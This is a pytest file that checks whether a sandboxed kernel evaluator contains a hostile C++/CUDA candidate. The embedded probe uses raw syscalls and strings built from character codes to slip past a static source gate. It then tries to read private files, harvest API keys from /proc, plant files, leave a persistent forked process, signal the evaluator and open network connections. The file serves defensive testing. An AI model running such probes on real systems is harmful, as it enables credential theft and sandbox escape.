"""A hostile C++ candidate, through ``kfoundry eval``, as root and as an ordinary user: contained.

One candidate source (one compile) makes every probe with raw system calls and paths assembled at
run time, so the static gate passes it: read a mode-600 file in a home folder, walk
``/proc/<pid>/{environ,cmdline,mem}`` for the evaluator's API key and command line, write into the
project and a run folder, create System V shared memory, fork a ``setsid`` child that would
outlive the evaluation, signal the evaluator, open a Unix socket, and last connect over TCP to a
listener of the test. Each probe reports only through its effect; the test checks that none
happened and that the verdict is not ``correct``.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from gpu_runner.confine.policy import PROJECT_ROOT
from tests.gpu_runner.conftest import REFERENCES

AS_USER = Path(__file__).parent / "as_user.sh"
SHM_KEY = 0x4B460001

SYSCALL_HELPERS = r"""
#include <torch/extension.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/syscall.h>
#include <string>
#include <vector>

static std::string S(const std::vector<int>& v) { std::string s; for (int c : v) s.push_back((char)c); return s; }
static long sc(long n, long a=0, long b=0, long c=0, long d=0) { return syscall(n, a, b, c, d); }
static std::string slurp(const std::string& p) {
    long fd = sc(257, AT_FDCWD, (long)p.c_str(), O_RDONLY, 0);
    if (fd < 0) return "";
    std::string out; char buf[4096]; long n;
    while ((n = sc(0, fd, (long)buf, sizeof buf)) > 0) out.append(buf, n);
    sc(3, fd); return out;
}
static void drop(const std::string& p, const std::string& data) {
    long fd = sc(257, AT_FDCWD, (long)p.c_str(), O_CREAT | O_WRONLY | O_TRUNC, 0666);
    if (fd >= 0) { sc(1, fd, (long)data.data(), (long)data.size()); sc(3, fd); }
}
"""
"""C++ helpers of the native probes: raw-syscall file reads and writes, strings built from character codes
(a gate reading source text sees no path or word)."""

CPP = (
    SYSCALL_HELPERS
    + r"""
void probe() {
    const std::string loot = S({LOOT}), token = S({TOKEN}), marker = S({MARKER});
    std::string secret = slurp(S({SECRET}));
    if (!secret.empty()) drop(loot + "/secret_copy", secret);
    std::vector<long> pids = {EVAL_PID};
    for (long p = 1; p < 4096; ++p) pids.push_back(p);
    for (long p : pids) {
        std::string base = "/proc/" + std::to_string(p);
        const std::string tag = std::to_string(p);
        if (slurp(base + S({ENVIRON})).find(token) != std::string::npos) drop(loot + "/environ_" + tag, token);
        if (slurp(base + "/cmdline").find(marker) != std::string::npos) drop(loot + "/cmdline_" + tag, marker);
        long fd = sc(257, AT_FDCWD, (long)(base + "/mem").c_str(), O_RDONLY, 0);
        if (fd >= 0 && p != (long)getpid()) { drop(loot + "/mem_" + std::to_string(p), "open"); }
        if (fd >= 0) sc(3, fd);
    }
    drop(S({PROJECT_FILE}), "pwned");
    drop(S({RUN_FILE}), "pwned");
    sc(29, SHM_KEY, 4096, 01000 | 0666);                    // shmget(IPC_CREAT)
    long child = sc(57);                                       // fork
    if (child == 0) { sc(112); for (;;) { drop(loot + "/alive", "tick"); sleep(1); } }
    sc(62, EVAL_PID, 15);                                      // signal the evaluator
    sc(41, 1, 1, 0);                                           // a Unix socket
    long s = sc(41, 2, 1, 0);                                  // TCP
    if (s >= 0) {
        unsigned char addr[16] = {2, 0, (unsigned char)(PORT >> 8), (unsigned char)(PORT & 255), 127, 0, 0, 1};
        sc(42, s, (long)addr, 16);
    }
}

#ifndef KF_CUDA
torch::Tensor add_relu(torch::Tensor x, torch::Tensor y) {
    probe();
    auto out = torch::empty_like(x);
    const float* a = x.data_ptr<float>(); const float* b = y.data_ptr<float>(); float* o = out.data_ptr<float>();
    for (int64_t i = 0; i < x.numel(); ++i) { float s = a[i] + b[i]; o[i] = s > 0.f ? s : 0.f; }
    return out;
}
#else
__global__ void add_relu_kernel(const float* x, const float* y, float* out, int64_t n) {
    int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (i < n) { float s = x[i] + y[i]; out[i] = s > 0.f ? s : 0.f; }
}
torch::Tensor add_relu(torch::Tensor x, torch::Tensor y) {
    probe();
    auto out = torch::empty_like(x);
    int64_t n = x.numel();
    add_relu_kernel<<<(n + 255) / 256, 256>>>(x.data_ptr<float>(), y.data_ptr<float>(), out.data_ptr<float>(), n);
    return out;
}
#endif
"""
)

WRAPPER = '''
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CPP_SRC = r"""{cpp}"""

ext = {load}


class ModelNew(nn.Module):
    def forward(self, x, y):
        return ext.add_relu(x.contiguous(), y.contiguous())
'''


def _chars(text: str) -> str:
    return ", ".join(str(ord(c)) for c in text)


CPU_LOAD = 'load_inline(name="kf_hostile_probe", cpp_sources=CPP_SRC, functions=["add_relu"])'
CUDA_LOAD = (
    'load_inline(name="kf_hostile_probe_cuda", '
    'cpp_sources="torch::Tensor add_relu(torch::Tensor x, torch::Tensor y);", '
    'cuda_sources="#define KF_CUDA 1\\n" + CPP_SRC, functions=["add_relu"])'
)


def _scenario(tmp: Path, home: Path, owner: int, cuda: bool = False) -> dict[str, object]:
    """Files, a listener and a candidate aimed at them."""
    for folder in (home, tmp / "loot", tmp / "run"):
        folder.mkdir(parents=True, exist_ok=True)
    secret = home / "secret.txt"
    secret.write_text("the user's private notes")
    secret.chmod(0o600)
    for path in (home, secret, tmp / "loot", tmp / "run"):
        os.chown(path, owner, owner)
    (tmp / "loot").chmod(0o777)
    (tmp / "run").chmod(0o777)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    token = "sk-" + secrets.token_hex(12)
    marker = f"kf_hostile_ref_{secrets.token_hex(4)}"
    reference = tmp / f"{marker}.py"
    reference.write_text((REFERENCES / "add_relu.py").read_text())
    reference.chmod(0o644)
    project_file = PROJECT_ROOT / f"kf_pwned_{secrets.token_hex(4)}"
    cpp = CPP
    for key, value in {
        "LOOT": _chars(str(tmp / "loot")),
        "TOKEN": _chars(token),
        "MARKER": _chars(marker),
        "SECRET": _chars(str(secret)),
        "PROJECT_FILE": _chars(str(project_file)),
        "RUN_FILE": _chars(str(tmp / "run" / "pwned")),
        "ENVIRON": _chars("/environ"),
    }.items():
        cpp = cpp.replace("{" + key + "}", "{" + value + "}")
    cpp = cpp.replace("PORT", str(listener.getsockname()[1])).replace("SHM_KEY", str(SHM_KEY))
    candidate = tmp / "candidate.py"
    candidate.write_text(WRAPPER.replace("{cpp}", cpp).replace("{load}", CUDA_LOAD if cuda else CPU_LOAD))
    candidate.chmod(0o644)
    return {"token": token, "reference": reference, "candidate": candidate, "listener": listener,
            "project_file": project_file}  # fmt: skip


def _evaluate(sc: dict[str, object], tmp: Path, as_user: bool, home: Path, device: str = "cpu") -> dict[str, object]:
    env = {k: v for k, v in os.environ.items() if k != "OPENAI_API_KEY"}
    env["OPENAI_API_KEY"] = str(sc["token"])
    env["KFOUNDRY_HOME"] = str(tmp / "kfhome")
    env["KF_TEST_HOME"] = str(home)
    env["KF_TEST_EXPOSE"] = ":".join(sorted({sys.prefix, sys.base_prefix, str(PROJECT_ROOT)}))
    env["TMPDIR"] = str(tmp / "t")  # the evaluator's work folders, so leftovers can be found
    (tmp / "t").mkdir(mode=0o1777, exist_ok=True)
    (tmp / "t").chmod(0o1777)
    (tmp / "kfhome").mkdir(exist_ok=True)
    os.chown(tmp / "kfhome", *(2 * [_uid(as_user)]))
    args = [sys.executable, "-m", "gpu_runner", str(sc["reference"]), str(sc["candidate"]), "--device", device,
            "--json", "--timeout", "240", "--isolation", "strict"]  # fmt: skip
    cmd = [
        "sh",
        str(AS_USER),
        "env",
        f"KFOUNDRY_HOME={tmp / 'kfhome'}",
        f"OPENAI_API_KEY={sc['token']}",
        f"TMPDIR={tmp / 't'}",
        *args,
    ]
    cmd = cmd if as_user else args
    # The candidate aims at the evaluator itself; as root that is this CLI process (its pid is unknown
    # before it starts, so the probe also walks pids 1..4095).
    text = Path(str(sc["candidate"])).read_text().replace("EVAL_PID", str(os.getpid()))
    Path(str(sc["candidate"])).write_text(text)
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=400, env=env, cwd=str(tmp), check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    result: dict[str, object] = json.loads(done.stdout)
    (tmp / "result.json").write_text(done.stdout)
    return result


def _processes_beneath(tmp: Path) -> list[int]:
    """Processes whose working folder is beneath ``tmp`` (the evaluator's workers were)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{pid}/cwd").startswith(str(tmp)):
                found.append(int(pid))
        except OSError:
            continue
    return found


def _uid(as_user: bool) -> int:
    import pwd

    return pwd.getpwnam(os.environ.get("KF_TEST_USER", "nobody")).pw_uid if as_user else 0


def _assert_contained(result: dict[str, object], sc: dict[str, object], tmp: Path) -> None:
    checks = {c["name"]: c for c in result["checks"]}  # type: ignore[attr-defined]
    assert checks["static_gate"]["outcome"] == "passed", checks["static_gate"]  # the runtime layers are tested
    assert result["status"] in ("runtime_error", "rejected"), (result["status"], result["summary"])
    assert sorted(os.listdir(tmp / "loot")) == []
    assert not (tmp / "run" / "pwned").exists()
    assert not Path(str(sc["project_file"])).exists()
    listener = sc["listener"]
    assert isinstance(listener, socket.socket)
    with pytest.raises(BlockingIOError):
        listener.accept()
    ipcs = subprocess.run(["ipcs", "-m"], capture_output=True, text=True, check=False).stdout
    assert f"{SHM_KEY:#010x}" not in ipcs
    assert _processes_beneath(tmp) == [], "a worker outlived the evaluation"
    for layer in ("network_isolation", "pid_namespace", "ipc_namespace", "mount_view", "landlock", "seccomp"):
        assert checks[layer]["outcome"] == "passed", checks[layer]


@pytest.mark.slow  # kept out of the default run's 15 minutes; CI runs it with the slow tests
@pytest.mark.timeout(420)
@pytest.mark.skipif(os.getuid() != 0, reason="this case is the evaluator run as root")
def test_hostile_cpp_candidate_is_contained_when_the_evaluator_is_root(tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    home = tmp_path / "home" / "alice"
    sc = _scenario(tmp_path, home, 0)
    try:
        result = _evaluate(sc, tmp_path, as_user=False, home=home)
        _assert_contained(result, sc, tmp_path)
    finally:
        sc["listener"].close()  # type: ignore[attr-defined]


@pytest.mark.slow
@pytest.mark.timeout(420)
@pytest.mark.skipif(os.getuid() != 0, reason="dropping to an ordinary user needs root")
def test_hostile_cpp_candidate_is_contained_when_the_evaluator_is_an_ordinary_user(tmp_path: Path) -> None:
    for folder in (tmp_path, *tmp_path.parents):  # pytest's temporary folders are private to root
        if folder == Path(folder.anchor) or folder.stat().st_uid != 0:
            break
        folder.chmod(folder.stat().st_mode | 0o011)
    tmp_path.chmod(0o755)
    home = tmp_path / "home" / "user"
    sc = _scenario(tmp_path, home, _uid(True))
    try:
        result = _evaluate(sc, tmp_path, as_user=True, home=home)
        _assert_contained(result, sc, tmp_path)
    finally:
        sc["listener"].close()  # type: ignore[attr-defined]
    checks = {c["name"]: c["outcome"] for c in result["checks"]}  # type: ignore[attr-defined]
    assert checks["user_namespace"] == "passed"


@pytest.mark.gpu
@pytest.mark.timeout(600)
@pytest.mark.parametrize("as_user", [False, True], ids=["root", "ordinary_user"])
def test_hostile_cuda_candidate_is_contained_on_the_gpu(tmp_path: Path, as_user: bool) -> None:
    """The same probes from a CUDA extension's host code, with the worker's CUDA context inside
    its user namespace: contained, and the layers all held on the GPU."""
    if as_user and os.getuid() != 0:
        pytest.skip("dropping to an ordinary user needs root")
    for folder in (tmp_path, *tmp_path.parents):
        if folder == Path(folder.anchor) or folder.stat().st_uid != 0:
            break
        folder.chmod(folder.stat().st_mode | 0o011)
    tmp_path.chmod(0o755)
    home = tmp_path / "home" / "gpu"
    sc = _scenario(tmp_path, home, _uid(as_user), cuda=True)
    try:
        result = _evaluate(sc, tmp_path, as_user=as_user, home=home, device="cuda")
        _assert_contained(result, sc, tmp_path)
    finally:
        sc["listener"].close()  # type: ignore[attr-defined]


@pytest.mark.gpu
@pytest.mark.timeout(600)
@pytest.mark.parametrize("name", ["honest_cuda_add_relu", "honest_add_relu"])
def test_honest_gpu_candidates_pass_under_strict_isolation(name: str) -> None:
    """CUDA (an extension, and Triton) works inside every layer: the verdict is correct and names them."""
    from tests.gpu_runner.conftest import CANDIDATES

    args = [sys.executable, "-m", "gpu_runner", str(REFERENCES / "add_relu.py"), str(CANDIDATES / f"{name}.py"),
            "--device", "cuda", "--json", "--isolation", "strict"]  # fmt: skip
    done = subprocess.run(args, capture_output=True, text=True, timeout=500, check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout)
    assert result["status"] == "correct", (result["summary"], (result.get("runtime_log") or "")[-2000:])
    checks = {c["name"]: c["outcome"] for c in result["checks"]}
    for layer in ("network_isolation", "pid_namespace", "ipc_namespace", "mount_view", "landlock", "seccomp"):
        assert checks[layer] == "passed", layer
